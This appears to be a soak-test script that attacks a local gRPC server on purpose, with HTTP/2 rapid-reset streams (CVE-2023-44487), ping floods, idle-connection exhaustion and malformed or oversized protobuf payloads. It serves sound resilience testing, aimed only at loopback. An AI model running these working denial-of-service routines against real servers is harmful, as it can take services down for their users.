"""Ways to treat a gRPC server badly, each in a process of its own for a bounded time.

usage: python tests/soak/abusers.py WAY HOST:PORT SECONDS

Only ever pointed at a server of the test's own on loopback.
"""

import contextlib
import resource
import socket
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.exceptions

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from darkroom_pb.yandex.cloud.compute.v1 import image_service_pb2

CREATE = "/yandex.cloud.compute.v1.ImageService/Create"
GET = "/yandex.cloud.compute.v1.ImageService/Get"
_CONNECTIONS = 2000
_LABELS = 100_000
_BATCH = 50
"""Streams that are begun and reset, or pings, between two looks at the clock."""


class _Line:
    """An HTTP/2 connection that writes without listening much, and comes back when thrown out."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self._address = host, int(port)
        self.connect()

    def connect(self) -> None:
        self._socket = socket.create_connection(self._address, 10)
        self._socket.settimeout(0.2)
        self.http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self.http.initiate_connection()

    def flush(self) -> None:
        try:
            self._socket.sendall(self.http.data_to_send())
            self._socket.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while data := self._socket.recv(1 << 16):
                    self.http.receive_data(data)
                raise ConnectionError("the server has hung up")
            self._socket.settimeout(0.2)
        except (OSError, h2.exceptions.ProtocolError):
            self._socket.close()
            self.connect()

    def open_stream(self) -> int:
        stream = self.http.get_next_available_stream_id()
        self.http.send_headers(
            stream,
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":authority", "localhost"),
                (":path", GET),
                ("te", "trailers"),
                ("content-type", "application/grpc"),
            ],
        )
        return stream


def _until(seconds: float, turn: Callable[[], None]) -> None:
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        turn()


def rapid_resets(address: str, seconds: float) -> None:
    """CVE-2023-44487: streams that are reset as soon as they are open."""
    line = _Line(address)

    def turn() -> None:
        with contextlib.suppress(h2.exceptions.ProtocolError):
            for _ in range(_BATCH):
                line.http.reset_stream(line.open_stream(), h2.errors.ErrorCodes.CANCEL)
        line.flush()

    _until(seconds, turn)


def pings(address: str, seconds: float) -> None:
    """As many pings as go through."""
    line = _Line(address)

    def turn() -> None:
        with contextlib.suppress(h2.exceptions.ProtocolError):  # thrown out
            for _ in range(_BATCH):
                line.http.ping(bytes(8))
        line.flush()

    _until(seconds, turn)


def silent_streams(address: str, seconds: float) -> None:
    """A hundred calls on each of a hundred connections whose requests never come."""
    lines = [_Line(address) for _ in range(100)]
    for line in lines:
        for _ in range(100):
            with contextlib.suppress(h2.exceptions.ProtocolError):
                line.open_stream()
        line.flush()
    time.sleep(seconds)


def connections(address: str, seconds: float) -> None:
    """Connections that say nothing, or only the preface."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, _CONNECTIONS + 100)), hard))
    host, _, port = address.rpartition(":")
    held = []
    for number in range(_CONNECTIONS):
        with contextlib.suppress(OSError):
            held.append(socket.create_connection((host, int(port)), 1))
            if number % 2:
                held[-1].sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(3) + b"\4" + bytes(5))
    time.sleep(seconds)


def _calls(
    path: str, body: bytes, metadata: list[tuple[str, str]] | None = None
) -> Callable[..., None]:
    def run(address: str, seconds: float) -> None:
        with grpc.insecure_channel(address) as channel:
            anything: Any = channel.unary_unary(path)
            futures: list[Any] = []

            def turn() -> None:
                futures.append(anything.future(body, timeout=10, metadata=metadata))
                if len(futures) >= 16:
                    with contextlib.suppress(grpc.RpcError):
                        futures.pop(0).result()

            _until(seconds, turn)

    return run


def _labels() -> bytes:
    request = image_service_pb2.CreateImageRequest(folder_id="folder", image_id="fd8")
    for number in range(_LABELS):
        request.labels[f"k{number}"] = ""
    return request.SerializeToString()


def _nested(depth: int) -> bytes:
    """A field that nobody knows, a message in a message in a message."""
    body = b""
    for _ in range(depth):
        length = len(body)
        varint = bytearray()
        while length >= 128:
            varint.append(length & 127 | 128)
            length >>= 7
        varint.append(length)
        body = b"\xfa\x06" + bytes(varint) + body
    return body


WAYS: dict[str, Callable[[str, float], None]] = {
    "rapid_resets": rapid_resets,
    "pings": pings,
    "silent_streams": silent_streams,
    "connections": connections,
    "labels": _calls(CREATE, _labels()),
    "oversized": _calls(CREATE, bytes(8 << 20)),
    "nested": _calls(CREATE, _nested(20_000)),
    "groups": _calls(CREATE, b"\x0b" * 100_000),
    "not_utf8": _calls(GET, b"\x0a\x04" + struct.pack(">I", 0xC0FFFE80)),
    "metadata": _calls(GET, b"", [(f"x-{n}", "v" * 7000) for n in range(8)]),
}


if __name__ == "__main__":
    WAYS[sys.argv[1]](sys.argv[2], float(sys.argv[3]))
